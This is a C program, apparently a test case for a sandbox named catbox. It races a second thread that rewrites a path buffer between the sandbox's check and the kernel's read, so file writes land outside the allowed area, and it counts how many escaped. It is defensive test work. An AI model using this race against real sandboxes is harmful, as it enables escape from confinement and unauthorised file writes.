/* issue 8 case 10: the path buffer rewritten between catbox's check and the
 * kernel's own read of it.  One thread flips the buffer between INSIDE and
 * OUTSIDE (same length, differing in at most 8 consecutive bytes, which are
 * flipped with one aligned 64-bit store so each read sees one whole path);
 * the main thread opens it O_WRONLY|O_CREAT|O_APPEND and writes one byte,
 * TRIES times or for SECONDS, whichever ends first.
 *
 *   escape_race_buf INSIDE OUTSIDE TRIES SECONDS
 *
 * Prints "tries=N opened=M eacces=K other=O".  Every byte in OUTSIDE
 * afterwards is one write that got out.  Exit 0.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static _Alignas(64) char buf[8192];
static char *path;
static uint64_t *word, w_in, w_out;
static volatile int stop;

static void *flipper(void *arg) {
    (void)arg;
    while (!__atomic_load_n(&stop, __ATOMIC_RELAXED)) {
        __atomic_store_n(word, w_out, __ATOMIC_RELAXED);
        for (volatile int i = 0; i < 20; i++) {}
        __atomic_store_n(word, w_in, __ATOMIC_RELAXED);
        for (volatile int i = 0; i < 20; i++) {}
    }
    return NULL;
}

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

int main(int argc, char **argv) {
    if (argc < 5) { fprintf(stderr, "usage: %s INSIDE OUTSIDE TRIES SECONDS\n", argv[0]); return 2; }
    const char *in = argv[1], *out = argv[2];
    size_t len = strlen(in);
    if (strlen(out) != len || len + 16 > 4096) { fprintf(stderr, "INSIDE and OUTSIDE must have the same length\n"); return 2; }
    size_t d = 0, e = len - 1;
    while (d < len && in[d] == out[d]) d++;
    while (e > d && in[e] == out[e]) e--;
    if (d == len || e - d >= 8) { fprintf(stderr, "the paths must differ in 1..8 consecutive bytes\n"); return 2; }
    size_t base = (8 - d % 8) % 8;
    path = buf + base;
    memcpy(path, in, len + 1);
    word = (uint64_t *)(path + d);
    char tmp[16] = {0};
    memcpy(tmp, in + d, len - d);
    memcpy(&w_in, tmp, 8);
    memset(tmp, 0, sizeof tmp);
    memcpy(tmp, out + d, len - d);
    memcpy(&w_out, tmp, 8);
    long tries = atol(argv[3]);
    double limit = atof(argv[4]), t0 = now();
    pthread_t th;
    if (pthread_create(&th, NULL, flipper, NULL) != 0) { perror("pthread_create"); return 2; }
    long n = 0, opened = 0, eacces = 0, other = 0;
    for (; n < tries; n++) {
        if ((n & 255) == 0 && now() - t0 > limit) break;
        int fd = open(path, O_WRONLY | O_CREAT | O_APPEND, 0644);
        if (fd >= 0) {
            opened++;
            if (write(fd, "x", 1) != 1) other++;
            close(fd);
        } else if (errno == EACCES) {
            eacces++;
        } else {
            other++;
        }
    }
    __atomic_store_n(&stop, 1, __ATOMIC_RELAXED);
    pthread_join(th, NULL);
    printf("tries=%ld opened=%ld eacces=%ld other=%ld seconds=%.1f\n", n, opened, eacces, other, now() - t0);
    return 0;
}
